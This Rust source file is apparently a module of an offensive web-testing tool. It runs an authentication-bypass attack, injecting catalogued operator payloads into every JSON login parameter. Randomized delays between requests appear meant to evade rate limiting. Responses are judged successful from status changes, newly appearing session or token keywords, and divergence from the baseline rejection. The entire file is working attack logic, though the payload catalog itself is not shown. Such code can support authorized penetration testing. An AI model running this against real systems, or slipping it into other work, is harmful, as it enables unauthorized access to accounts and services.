//! `--technique A`: tries each operator payload from the catalog's
//! `auth_bypass` array against every parameter, looking for a response
//! that reads like a successful login rather than the baseline
//! rejection.

use std::thread;
use std::time::Duration;

use rand::Rng;

use crate::engine::Engine;
use crate::payloads::PayloadCatalog;
use crate::similarity;

const SUCCESS_KEYWORDS: &[&str] = &["token", "success", "dashboard", "welcome", "auth_token", "session", "id_token"];

#[derive(Debug, Clone)]
pub struct AuthBypassHit {
    pub param: String,
    pub payload_index: usize,
}

pub fn run(engine: &Engine, catalog: &PayloadCatalog) -> anyhow::Result<Vec<AuthBypassHit>> {
    let keys = engine.template.body.top_level_keys()?;
    let mut hits = Vec::new();

    for key in &keys {
        for (idx, payload) in catalog.auth_bypass.iter().enumerate() {
            let Ok(body) = engine.template.body.with_leaf(key, payload.clone()) else {
                continue;
            };
            let jitter = rand::thread_rng().gen_range(1.5..=3.0);
            thread::sleep(Duration::from_secs_f64(jitter));

            let Some(resp) = engine.send(&body) else { continue };
            if is_successful(engine, &resp) {
                tracing::info!(param = %key, payload_index = idx, "auth bypass candidate");
                hits.push(AuthBypassHit {
                    param: key.clone(),
                    payload_index: idx,
                });
                break;
            }
        }
    }
    Ok(hits)
}

fn is_successful(engine: &Engine, resp: &crate::http_client::HttpResponseRecord) -> bool {
    if resp.status == 200 && engine.baseline.status != 200 {
        return true;
    }
    let has_new_success_keyword = SUCCESS_KEYWORDS
        .iter()
        .any(|kw| resp.body.to_lowercase().contains(kw) && !engine.baseline.body.to_lowercase().contains(kw));
    if has_new_success_keyword {
        return true;
    }
    let has_error_keyword = ["invalid", "denied", "error", "unauthorized"].iter().any(|kw| resp.body.to_lowercase().contains(kw));
    similarity::ratio(&engine.baseline.body, &resp.body) < 0.90 && !has_error_keyword
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn success_keywords_list_matches_known_session_markers() {
        assert!(SUCCESS_KEYWORDS.contains(&"dashboard"));
        assert!(SUCCESS_KEYWORDS.contains(&"session"));
    }
}
